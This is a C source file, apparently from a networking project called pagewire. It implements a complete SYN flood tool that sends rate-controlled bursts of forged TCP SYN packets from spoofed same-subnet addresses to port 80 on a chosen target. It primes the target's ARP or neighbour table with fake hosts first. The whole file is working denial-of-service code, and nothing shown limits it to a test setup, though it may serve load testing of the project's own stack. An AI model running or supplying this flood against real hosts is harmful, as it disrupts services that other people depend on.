/* SPDX-License-Identifier: BSD-3-Clause
 * Copyright (c) 2026 the pagewire authors
 *
 * A SYN flood: from made-up hosts and ports, so many a second.
 *
 *	synflood --rate N --seconds S INTERFACE OUR-MAC THEIR-MAC THEIR-ADDRESS
 *
 * The last byte of their addresses is 100 to 199, the others are THEIR-ADDRESS's, of
 * IPv4 or IPv6. Each sends an ARP request or a neighbour solicitation first, from which
 * THEIR-ADDRESS learns where it is. Ends by printing "sent N in S s".
 */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <net/if.h>
#include <linux/if_packet.h>
#include <netinet/ether.h>
#include <sys/socket.h>
#include "pw_rand.h"
#include "pw_wire_arp.h"
#include "pw_wire_cksum.h"
#include "pw_wire_eth.h"
#include "pw_wire_ip4.h"
#include "pw_wire_nd.h"
#include "pw_wire_tcp.h"

#define BATCH	   64
#define HOSTS	   100
#define FIRST_HOST 100
#define FRAME_LEN  (PW_ETH_HLEN + PW_IP6_HLEN + PW_TCP_HLEN_MIN + PW_TCP_OPT_MAX)

struct flood {
	int fd;
	uint64_t rate;
	pw_ns length;
	uint8_t src_mac[PW_ETH_ADDR_LEN];
	uint8_t dst_mac[PW_ETH_ADDR_LEN];
	struct pw_addr dst;
	struct pw_rand rand;
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	uint8_t frames[BATCH][FRAME_LEN];
};

static void
die(const char *what)
{
	fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static pw_ns
clock_now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (pw_ns)ts.tv_sec * PW_NS_PER_S + (pw_ns)ts.tv_nsec;
}

static struct pw_addr
host(const struct flood *f, uint32_t i)
{
	struct pw_addr a = f->dst;

	a.b[15] = (uint8_t)(FIRST_HOST + i);
	return a;
}

/* Headers of Ethernet and IP. @return their length */
static uint32_t
put_headers(
	const struct flood *f, uint8_t *p, const struct pw_addr *src, uint8_t proto, uint32_t len)
{
	struct pw_ip4_hdr ip4 = {.src = *src,
		.dst = f->dst,
		.df = true,
		.ttl = 64,
		.proto = proto,
		.total_len = (uint16_t)(PW_IP4_HLEN + len)};
	struct pw_ip6_hdr ip6 = {.src = *src,
		.dst = f->dst,
		.hop_limit = PW_ND_HOP_LIMIT,
		.next = proto,
		.payload_len = (uint16_t)len};
	bool is_v4 = pw_addr_is_v4(src);

	pw_eth_emit(p, f->dst_mac, f->src_mac, is_v4 ? PW_ETH_TYPE_IP4 : PW_ETH_TYPE_IP6);
	return PW_ETH_HLEN +
	       (is_v4 ? pw_ip4_emit(p + PW_ETH_HLEN, &ip4) : pw_ip6_emit(p + PW_ETH_HLEN, &ip6));
}

static uint32_t
make_syn(struct flood *f, uint8_t *p)
{
	struct pw_addr src = host(f, (uint32_t)pw_rand_below(&f->rand, HOSTS));
	struct pw_tcp_opts o = {.has = PW_OPT_MSS | PW_OPT_SACK_OK | PW_OPT_TS | PW_OPT_WSCALE,
		.mss = 1460,
		.wscale = 7,
		.ts_val = (uint32_t)pw_rand_u64(&f->rand)};
	uint8_t opts[PW_TCP_OPT_MAX];
	struct pw_tcp_hdr tcp = {
		.sport = (uint16_t)(1024 + pw_rand_below(&f->rand, 64000)),
		.dport = 80,
		.seq = (uint32_t)pw_rand_u64(&f->rand),
		.wnd = 64240,
		.flags = PW_TCP_SYN,
		.opt_len = (uint8_t)pw_tcp_put_syn_opts(opts, &o),
	};
	uint32_t len = PW_TCP_HLEN_MIN + tcp.opt_len;
	uint32_t hlen = put_headers(f, p, &src, 6, len);
	uint8_t *l4 = p + hlen;
	uint16_t sum;

	pw_tcp_emit(l4, &tcp, opts);
	sum = pw_sum_finish(pw_sum_add(pw_sum_pseudo(&src, &f->dst, 6, len), pw_sum(l4, len)));
	memcpy(l4 + 16, &sum, sizeof(sum));
	return hlen + len;
}

static uint32_t
make_arp(const struct flood *f, uint8_t *p, const struct pw_addr *src)
{
	struct pw_arp arp = {.op = PW_ARP_REQUEST, .spa = *src, .tpa = f->dst};

	memcpy(arp.sha, f->src_mac, PW_ETH_ADDR_LEN);
	pw_eth_emit(p, f->dst_mac, f->src_mac, PW_ETH_TYPE_ARP);
	return PW_ETH_HLEN + pw_arp_emit(p + PW_ETH_HLEN, &arp);
}

static uint32_t
make_solicitation(const struct flood *f, uint8_t *p, const struct pw_addr *src)
{
	struct pw_nd nd = {.target = f->dst, .has_mac = true};
	uint32_t hlen = put_headers(f, p, src, PW_IP_PROTO_ICMP6, PW_ND_NS_LEN);

	memcpy(nd.mac, f->src_mac, PW_ETH_ADDR_LEN);
	return hlen + pw_nd_emit_ns(p + hlen, &nd, src, &f->dst);
}

/* Each host says who it is, so that it is answered at once. */
static void
introduce(struct flood *f)
{
	uint32_t i, len;

	for (i = 0; i < HOSTS; i++) {
		struct pw_addr src = host(f, i);
		uint8_t p[FRAME_LEN];

		len = pw_addr_is_v4(&src) ? make_arp(f, p, &src) : make_solicitation(f, p, &src);
		if (send(f->fd, p, len, 0) < 0)
			die("send");
	}
}

static uint64_t
send_batch(struct flood *f, uint32_t n)
{
	uint32_t i;
	int sent;

	for (i = 0; i < n; i++) {
		f->iov[i] = (struct iovec){f->frames[i], make_syn(f, f->frames[i])};
		f->msgs[i].msg_hdr = (struct msghdr){.msg_iov = &f->iov[i], .msg_iovlen = 1};
	}
	sent = sendmmsg(f->fd, f->msgs, n, 0);
	if (sent < 0 && errno != ENOBUFS && errno != EAGAIN)
		die("sendmmsg");
	return sent > 0 ? (uint64_t)sent : 0;
}

static void
run(struct flood *f)
{
	pw_ns begin = clock_now(), now = begin;
	uint64_t sent = 0;

	for (; now - begin < f->length; now = clock_now()) {
		uint64_t due = (uint64_t)((double)(now - begin) * (double)f->rate / PW_NS_PER_S);

		if (due <= sent) {
			usleep(500);
			continue;
		}
		sent += send_batch(f, (uint32_t)pw_min(due - sent, BATCH));
	}
	printf("sent %" PRIu64 " in %.3f s\n", sent, (double)(now - begin) / PW_NS_PER_S);
}

static void
open_link(struct flood *f, const char *name)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET};

	to.sll_ifindex = (int)if_nametoindex(name);
	f->fd = socket(AF_PACKET, SOCK_RAW, 0); /* protocol 0: nothing is received */
	if (to.sll_ifindex == 0 || f->fd < 0 ||
		bind(f->fd, (struct sockaddr *)&to, sizeof(to)) != 0)
		die(name);
}

static void
read_mac(const char *text, uint8_t mac[PW_ETH_ADDR_LEN])
{
	const struct ether_addr *a = ether_aton(text);

	if (a == NULL) {
		errno = EINVAL;
		die(text);
	}
	memcpy(mac, a, PW_ETH_ADDR_LEN);
}

int
main(int argc, char **argv)
{
	static const struct option options[] = {
		{"rate", required_argument, NULL, 'r'},
		{"seconds", required_argument, NULL, 's'},
		{0},
	};
	static struct flood f = {.rate = 50000, .length = 5 * PW_NS_PER_S};
	int opt;

	while ((opt = getopt_long(argc, argv, "", options, NULL)) != -1) {
		if (opt == 'r')
			f.rate = strtoull(optarg, NULL, 10);
		else if (opt == 's')
			f.length = (pw_ns)(strtod(optarg, NULL) * PW_NS_PER_S);
		else
			return 2;
	}
	if (argc - optind != 4 || pw_addr_parse(argv[optind + 3], &f.dst) != 0) {
		fprintf(stderr, "usage: synflood [--rate N] [--seconds S] INTERFACE OUR-MAC "
				"THEIR-MAC THEIR-ADDRESS\n");
		return 2;
	}
	read_mac(argv[optind + 1], f.src_mac);
	read_mac(argv[optind + 2], f.dst_mac);
	pw_rand_init(&f.rand, 1);
	open_link(&f, argv[optind]);
	introduce(&f);
	run(&f);
	return 0;
}
